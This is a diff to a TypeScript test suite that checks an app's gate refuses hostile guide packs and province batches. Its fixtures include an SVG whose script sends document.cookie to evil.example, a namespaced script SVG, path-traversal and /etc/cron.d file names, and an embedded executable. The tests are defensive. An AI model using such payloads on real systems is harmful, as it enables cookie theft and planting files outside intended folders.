@@ -7,7 +7,7 @@ import { PACK_LIMITS } from '../../shared/guides/pack-format';
 import { buildPackFile } from '../../electron/core/guides/pack-file';
 import { generateSigningKeys } from '../../electron/core/guides/signing';
 import { testSource } from '../../electron/core/guides/test-packs';
-import { openTestApp, signInAs, TEST_SETUP } from '../../electron/core/testing';
+import { openTestApp, signInAs, TEST_SETUP, testClock } from '../../electron/core/testing';
 import { ingestBatch } from '../../electron/province/ingest';
 import { generateProvinceKeys } from '../../electron/province/keys';
 import { openProvinceStore, type ProvinceDb } from '../../electron/province/store';
@@ -62,6 +62,13 @@ describe('hostile guide packs, through the gate', () => {
     'a path escaping the guide folder': () => tamper(good, (a) => (a.files['../../../startup/evil.svg'] = 'PHN2Zz48L3N2Zz4=')),
     'an absolute path': () => tamper(good, (a) => (a.files['/etc/cron.d/evil.json'] = 'e30=')),
     'a program inside': () => tamper(good, (a) => (a.files['vneid-level-1/setup.exe'] = 'TVqQAAMAAAAEAAAA')),
+    // Signed and listed, referred to by no guide, still served under /packs/: checked all the same.
+    'an unsafe picture no guide refers to': () => buildPackFile(testSource({ packVersion: 1002 }, (files) => {
+      files.set('vneid-level-1/unused.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://evil.example/?"+document.cookie)</script></svg>'));
+    }), keys.privatePem),
+    'a picture with a namespaced script': () => buildPackFile(testSource({ packVersion: 1003 }, (files) => {
+      files.set('vneid-level-1/ns.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>'));
+    }), keys.privatePem),
     // JSON allows trailing spaces: only the size limit can refuse this one.
     'one byte over the size limit': () => Buffer.concat([good, Buffer.alloc(PACK_LIMITS.fileBytes + 1 - good.length, 32)]),
   };
@@ -78,6 +85,7 @@ describe('hostile guide packs, through the gate', () => {
       }
       expect(await databaseChecksum(app.db)).toBe(before);
       expect(folderState(app.dataDir)).toBe(files);
+      if (!res.ok && /unsafe picture|namespaced/.test(name)) expect(res.error.params?.reason).toBe('unsafe_svg');
     });
   }
   it('the good pack itself is accepted (so the refusals above are about the damage)', async () => {
@@ -92,11 +100,16 @@ describe('hostile batches at the province', () => {
   let dir: string;
   let first: string;
   beforeAll(async () => {
-    // One real batch from one day's work at a point: a check-in, closed by the official.
-    point = await openTestApp();
+    // One real batch from one day's work at a point: a check-in, closed by the official. A
+    // clock of its own: after midnight in Vietnam the day had nothing to close yet.
+    const clock = testClock('2026-11-25T03:00:00Z');
+    point = await openTestApp({ now: clock.now });
     const admin = await signInAs(point, 'admin');
     await point.invoke('settings.update', { ...TEST_SETUP.point, communeCode: '23410' }, admin);
     await point.invoke('uploads.setProvince', { keyText: province.publicText }, admin);
+    await point.invoke('queue.checkIn', { helpKind: 'vneid' }, { device: 'kiosk' });
+    // The next morning: the ticket left waiting expires and yesterday is closed into a batch.
+    clock.advance(24 * 3_600_000);
     await point.invoke('queue.checkIn', { helpKind: 'vneid' }, { device: 'kiosk' });
     await point.invoke('uploads.cutNow', {}, await signInAs(point, 'commune_official'));
     first = (await point.db.selectFrom('upload_batch').select('content').orderBy('seq').executeTakeFirstOrThrow()).content;
